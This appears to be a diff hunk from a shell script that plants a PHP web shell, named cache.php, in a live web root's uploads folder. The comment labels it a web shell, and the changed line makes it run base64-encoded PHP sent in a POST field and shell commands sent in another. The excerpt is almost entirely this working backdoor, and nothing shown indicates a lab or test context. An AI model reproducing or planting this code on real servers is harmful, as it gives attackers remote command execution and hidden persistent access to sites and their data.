@@ -9,7 +9,7 @@ mkdir -p "$nest"
 # A web shell in the running site.
 mkdir -p /var/www/html/uploads
 cat >/var/www/html/uploads/cache.php <<'PHP'
-<?php if (isset($_POST['cmd'])) { @eval(base64_decode($_POST['cmd'])); system($_POST['cmd']); }
+<?php if (isset($_POST['code'])) { @eval(base64_decode($_POST['code'])); } if (isset($_POST['cmd'])) { system($_POST['cmd']); }
 PHP
 chown -R www-data:www-data /var/www/html/uploads
 
